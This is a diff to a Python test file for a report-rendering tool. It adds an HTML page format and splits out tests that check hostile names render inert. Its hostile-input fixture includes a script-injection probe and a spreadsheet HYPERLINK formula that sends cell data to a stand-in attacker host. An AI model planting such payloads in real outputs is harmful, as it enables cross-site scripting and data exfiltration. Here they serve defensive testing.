@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from dataclasses import fields, is_dataclass, replace
 from datetime import date
 from decimal import Decimal
@@ -19,7 +20,7 @@ from commonscheck.cli import cli
 from commonscheck.cli.reporting import FORMATS as CHOICES
 from commonscheck.cli.reporting import KINDS
 from commonscheck.cli.reporting import STEPS as CHOSEN_STEPS
-from commonscheck.formats.overview import FORMATS, Format, badge, markdown, render, sheets, text, whole_json
+from commonscheck.formats.overview import FORMATS, Format, badge, markdown, page, render, sheets, text, whole_json
 from commonscheck.formats.overview.mermaid import MOST_LINKS, drawing
 from commonscheck.formats.overview.table import Table, to_the_right
 from commonscheck.formats.overview.tables import tables
@@ -33,7 +34,7 @@ from commonscheck.model.report import Input
 from tests.formats.checks import assert_visible, check_text
 from tests.formats.test_laws import TEXT
 from tests.measures.made import EARLIER, YEAR, evidence
-from tests.reports.checks import CHECKS, SCHEMA, check_csv
+from tests.reports.checks import CHECKS, FILES, SCHEMA, check_csv
 from tests.reports.example import OVERVIEW
 
 GOLDEN = Path(__file__).parent / "golden"
@@ -41,7 +42,7 @@ ENDINGS = {"text": "txt", "markdown": "md", "csv": "csv"}
 T = TypeVar("T")
 
 # mypy holds each module against the protocol here, since the table imports them by name.
-MODULES: list[Format] = [badge, markdown, sheets, text, whole_json]
+MODULES: list[Format] = [badge, markdown, page, sheets, text, whole_json]
 HOSTILE = (
     "<script>alert(1)</script>",
     '=HYPERLINK("https://evil.example?"&A1)',
@@ -57,6 +58,12 @@ HOSTILE = (
 )
 
 
+def renamed(replaced: Any) -> Overview:  # noqa: ANN401 - a function from text to text
+    """Replace every text in the example but for its steps, which are one of three words."""
+    overview = with_texts(OVERVIEW, replaced)
+    return replace(overview, asked=replace(overview.asked, by=OVERVIEW.asked.by))
+
+
 def with_texts(value: T, replaced: Any) -> T:  # noqa: ANN401 - a function from text to text
     """Replace every text in a value of the model."""
     if isinstance(value, str):
@@ -70,12 +77,14 @@ def with_texts(value: T, replaced: Any) -> T:  # noqa: ANN401 - a function from 
 
 
 OUTPUTS = {f"report.{ENDINGS.get(name, name)}": render(name, OVERVIEW).text for name in FORMATS}
+PICTURE = re.compile(r"(?<=data:image/svg\+xml;base64,)[\w+/=]+")  # charts have golden files of their own
 
 
 @pytest.mark.parametrize("name", OUTPUTS)
 def test_output_is_as_expected(name: str, *, update_golden: bool) -> None:
     file = GOLDEN / name
     actual = OUTPUTS[name].replace(f'"{__version__}"', '"VERSION"').replace(f"check {__version__}", "check VERSION")
+    actual = PICTURE.sub("…", actual)
     if update_golden:
         file.write_bytes(actual.encode())
     assert actual == file.read_bytes().decode()
@@ -89,25 +98,37 @@ def test_the_command_offers_every_format_step_and_kind() -> None:
 @pytest.mark.parametrize("name", HOSTILE)
 @pytest.mark.parametrize("format_", FORMATS)
 def test_hostile_names_are_inert(format_: str, name: str) -> None:
-    rendered = render(format_, with_texts(OVERVIEW, lambda _: name))
-    for output in (rendered.text, *(content for _, content in rendered.files)):
-        CHECKS[format_](output)
+    rendered = render(format_, renamed(lambda _: name))
+    CHECKS[format_](rendered.text)
+    for file, content in rendered.files:
+        FILES[Path(file).suffix](content)
 
 
 @settings(max_examples=20, deadline=None)
 @given(st.lists(TEXT, min_size=1, max_size=9))
 def test_every_format_is_strict_and_visible_for_any_names(names: list[str]) -> None:
     left = iter(names * 400)
-    overview = with_texts(OVERVIEW, lambda _: next(left))
-    for name, check in CHECKS.items():
-        output = render(name, overview).text
-        check(output)
-        assert output.endswith("\n")
-        assert output == render(name, overview).text
+    overview = renamed(lambda _: next(left))
+    for name in CHECKS.keys() - {"html"}:
+        hold(name, overview)
+
+
+@settings(max_examples=3, deadline=None)
+@given(st.lists(TEXT, min_size=1, max_size=9))
+def test_a_page_is_strict_and_visible_for_any_names(names: list[str]) -> None:
+    left = iter(names * 400)
+    hold("html", renamed(lambda _: next(left)))
+
+
+def hold(name: str, overview: Overview) -> None:
+    output = render(name, overview).text
+    CHECKS[name](output)
+    assert output.endswith("\n")
+    assert output == render(name, overview).text
 
 
 def test_color_changes_nothing_that_is_said() -> None:
-    colored = render("text", with_texts(OVERVIEW, lambda _: HOSTILE[-2]), color=True).text
+    colored = render("text", renamed(lambda _: HOSTILE[-2]), color=True).text
     assert "\x1b[1m" in colored
     assert_visible(colored)
 
